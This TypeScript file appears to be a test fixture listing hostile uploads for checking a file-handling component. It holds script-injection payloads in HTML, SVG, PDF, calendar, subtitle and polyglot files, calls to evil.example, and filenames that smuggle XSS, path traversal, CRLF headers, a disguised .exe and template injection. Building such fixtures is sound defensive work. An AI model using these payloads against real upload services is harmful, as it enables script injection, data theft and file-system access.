/** A file that says one thing and is another. */
export interface HostileFile {
  filename: string;
  contentType: string;
  content: Buffer;
}

const PAGE =
  '<!doctype html><script>(window.parent||window).trap("file")</script><img src=https://evil.example/file.png>';
const DRAWING =
  '<svg xmlns="http://www.w3.org/2000/svg" onload="trap(\'file\')"><script>trap("file")</script><image href="https://evil.example/file.svg"/></svg>';
const PNG = Buffer.from(
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==',
  'base64',
);
const GIF_SCRIPT = Buffer.from('GIF89a/*\u0001\u0000*/=1;trap("file")//;', 'latin1');
const PDF =
  '%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1);this.submitForm("https://evil.example/"))>>>>endobj';

const file = (filename: string, contentType: string, content: string | Buffer): HostileFile => ({
  filename,
  contentType,
  content: Buffer.from(content),
});

export const FILES: readonly HostileFile[] = [
  file('page.html', 'text/html', PAGE),
  file('photo.png', 'image/png', PAGE),
  file('photo.jpg', 'text/html', PAGE),
  file('drawing.svg', 'image/svg+xml', DRAWING),
  file('drawing.png', 'image/png', DRAWING),
  file('picture.svg', 'IMAGE/SVG+XML; charset=utf-8', DRAWING),
  file('both.gif', 'image/gif', GIF_SCRIPT),
  file('both.js', 'text/javascript', GIF_SCRIPT),
  file('tail.png', 'image/png', Buffer.concat([PNG, Buffer.from(PAGE)])),
  file('page.xhtml', 'application/xhtml+xml', `<html xmlns="http://www.w3.org/1999/xhtml">${PAGE}</html>`),
  file('feed.xml', 'text/xml', `<?xml-stylesheet href="https://evil.example/x.xsl"?><x>${PAGE}</x>`),
  file('bill.pdf', 'application/pdf', PDF),
  file('meeting.ics', 'text/calendar', `BEGIN:VCALENDAR\nX-ALT-DESC;FMTTYPE=text/html:${PAGE}\nURL:javascript:trap()`),
  file('page.mht', 'multipart/related', `Content-Type: text/html\n\n${PAGE}`),
  file('app.hta', 'application/hta', PAGE),
  file('setup.exe', 'application/x-msdownload', 'MZ'),
  file('track.vtt', 'text/vtt', 'WEBVTT\n\n00:00.000 --> 00:09.000\n<c.trap><script>trap("file")</script>'),
  file("\"><img src=x onerror=trap('name')>.png", 'image/png', PNG),
  file("'onmouseover='trap(1)'.pdf", 'application/pdf', PDF),
  file('<script>trap("name")</script>.csv', 'text/csv', '=HYPERLINK("https://evil.example")'),
  file('../../../../etc/passwd', 'text/plain', 'x'),
  file('..\\..\\boot.ini', 'text/plain', 'x'),
  file('invoice\u202egnp.exe', 'application/octet-stream', 'MZ'),
  file('two\r\nContent-Type: text/html\r\n\r\n<script>trap("name")</script>.txt', 'text/plain', 'x'),
  file('null\u0000.html.png', 'image/png', PNG),
  file(`${'long '.repeat(80)}<svg onload=trap('name')>.txt`, 'text/plain', 'x'),
  file('javascript:trap("name")', 'text/plain', 'x'),
  file('__proto__', 'text/plain', 'x'),
  file('.htaccess', 'text/plain', 'AddType text/html .png'),
  file('{{constructor.constructor("trap()")()}}.txt', 'text/plain', 'x'),
];
